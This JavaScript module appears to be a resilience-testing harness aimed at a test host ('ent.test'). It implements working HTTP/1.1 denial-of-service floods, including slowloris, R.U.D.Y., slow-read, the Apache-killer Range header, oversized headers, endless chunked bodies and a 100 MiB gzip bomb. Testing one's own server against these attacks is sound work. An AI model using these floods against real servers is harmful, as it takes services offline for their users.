// Floods over HTTP/1.1: what is slow, what is large, what breaks off.

import { gzipSync } from 'node:zlib';
import { crowd, keep, leave, line, pause, pour, rest, until } from './line.mjs';

const HOST = 'host: ent.test\r\n';
const FORM = 'sec-fetch-site: same-origin\r\ncontent-type: application/x-www-form-urlencoded\r\n';
const post = (more) => `POST /login HTTP/1.1\r\n${HOST}${FORM}${more}\r\n\r\n`;
const KIB = 1 << 10;
const MIB = 1 << 20;

/** Says `first`, then `drop` every second, on many connections. */
async function drip(target, tally, first, drop) {
  const born = new Map();
  await keep(
    target,
    tally,
    target.connections,
    () => line(target, tally, (socket) => {
      socket.write(first);
      born.set(socket, performance.now());
    }),
    (sockets) => {
      for (const socket of sockets) {
        if (!socket.writable || performance.now() - (born.get(socket) ?? Infinity) < 1_000) continue;
        born.set(socket, performance.now());
        socket.write(drop);
      }
    },
  );
}

/** One connection after the other, on which all is said at once. */
function each(target, tally, count, say) {
  return crowd(target, tally, count, async (goes) => {
    const socket = line(target, tally, (socket) => socket.write(say()));
    await rest(socket, tally, goes);
  });
}

export const floods = {
  'slow-headers': {
    what: 'slowloris: a head that never ends, a line a second',
    run: (target, tally) => drip(target, tally, `GET /login HTTP/1.1\r\n${HOST}`, 'x-a: b\r\n'),
  },
  'slow-body': {
    what: 'R.U.D.Y.: a form of 100 kB, a byte a second',
    run: (target, tally) => drip(target, tally, post('content-length: 100000'), 'a'),
  },
  'slow-read': {
    what: 'pages asked for 60 times on a connection, and never read',
    run: (target, tally) =>
      keep(target, tally, target.connections, () => {
        const socket = line(target, tally, (socket) => socket.write(`GET /login HTTP/1.1\r\n${HOST}\r\n`.repeat(60)));
        socket.pause();
        return socket;
      }),
  },
  range: {
    what: 'Apache killer: 1,300 ranges of an asset that overlap',
    async run(target, tally) {
      const ranges = Array.from({ length: 1_300 }, (_, at) => `5-${at}`).join(',');
      const says = `GET ${target.asset} HTTP/1.1\r\n${HOST}range: bytes=0-,${ranges}\r\nconnection: close\r\n\r\n`;
      await each(target, tally, 50, () => says);
    },
  },
  silent: {
    what: 'connections that say nothing',
    run: (target, tally) => keep(target, tally, target.connections * 2, () => line(target, tally)),
  },
  'half-asked': {
    what: 'connections that say half of a first line, of a preface, of a TLS greeting',
    run(target, tally) {
      const halves = ['GE', 'PRI * HTTP/2.0\r\n\r', Buffer.from([22, 3, 1])];
      let at = 0;
      const half = () => halves[(at += 1) % halves.length];
      return keep(target, tally, target.connections, () => line(target, tally, (socket) => socket.write(half())));
    },
  },
  reset: {
    what: 'connections reset as soon as they stand, every other with a request in it',
    async run(target, tally) {
      let at = 0;
      await crowd(target, tally, 40, async (goes) => {
        for (let round = 0; round < 20 && goes(); round += 1) {
          await new Promise((resolve) => {
            const socket = line(target, tally, () => {
              if ((at += 1) % 2) return reset();
              socket.write(`GET /login HTTP/1.1\r\n${HOST}\r\n`);
              setTimeout(reset, 1);
            });
            const reset = () => {
              socket.left = true;
              socket.resetAndDestroy();
              tally.add('reset by us');
            };
            socket.once('close', resolve);
          });
        }
      });
    },
  },
  'long-header': {
    what: 'a header of 1 MiB',
    run: (target, tally) => each(target, tally, 30, () => `GET /login HTTP/1.1\r\n${HOST}x: ${'y'.repeat(MIB)}\r\n\r\n`),
  },
  'many-headers': {
    what: '10,000 headers',
    run: (target, tally) => each(target, tally, 30, () => `GET /login HTTP/1.1\r\n${HOST}${'x: y\r\n'.repeat(10_000)}\r\n`),
  },
  'long-address': {
    what: 'an address of 60 kB',
    run: (target, tally) => each(target, tally, 30, () => `GET /${'a'.repeat(60_000)} HTTP/1.1\r\n${HOST}\r\n`),
  },
  pipeline: {
    what: '5,000 requests at once on a connection, answers not waited for',
    run: (target, tally) => each(target, tally, 8, () => `GET /healthz HTTP/1.1\r\n${HOST}\r\n`.repeat(5_000)),
  },
  chunks: {
    what: 'a body in chunks of 64 KiB that never ends',
    run: (target, tally) => endless(target, tally, `10000\r\n${'a'.repeat(64 * KIB)}\r\n`),
  },
  'small-chunks': {
    what: 'a body in chunks of one byte that never ends',
    run: (target, tally) => endless(target, tally, '1\r\na\r\n'.repeat(2_000)),
  },
  'chunk-extensions': {
    what: 'the length of a chunk, with an extension that never ends',
    run: (target, tally) => endless(target, tally, ';a=b'.repeat(4_000), '1'),
  },
  trailers: {
    what: 'what comes after a body, without end',
    run: (target, tally) => endless(target, tally, 'x: y\r\n'.repeat(4_000), '0\r\n'),
  },
  gzip: {
    what: 'a form of 100 MiB, compressed to 100 kB, that says so',
    run(target, tally) {
      const bomb = gzipSync(Buffer.alloc(100 * MIB, 'a'));
      const head = post(`content-encoding: gzip\r\ncontent-length: ${bomb.length}`);
      return each(target, tally, 20, () => Buffer.concat([Buffer.from(head), bomb]));
    },
  },
  'held-forms': {
    what: 'forms of which all but the last byte comes: 255 KiB each',
    async run(target, tally) {
      const goes = until(target.seconds);
      const says = Buffer.from(post(`content-length: ${255 * KIB + 1}`) + 'a'.repeat(255 * KIB));
      const sockets = [];
      while (goes() && sockets.length < target.connections) {
        for (let made = 0; made < 10; made += 1) sockets.push(line(target, tally, (socket) => socket.write(says)));
        await pause(20);
      }
      while (goes()) await pause(50);
      leave(sockets, tally);
    },
  },
};

/** A form whose body is said piece by piece for as long as it is taken. */
function endless(target, tally, piece, first = '') {
  return crowd(target, tally, 20, async (goes) => {
    let socket;
    const stands = new Promise((resolve) => {
      socket = line(target, tally, (socket) => {
        socket.write(post('transfer-encoding: chunked') + first);
        resolve();
      });
      socket.once('close', resolve);
    });
    await stands;
    await pour(socket, goes, () => piece, () => tally.add('MB sent', piece.length / 1e6));
    await rest(socket, tally, goes);
  });
}
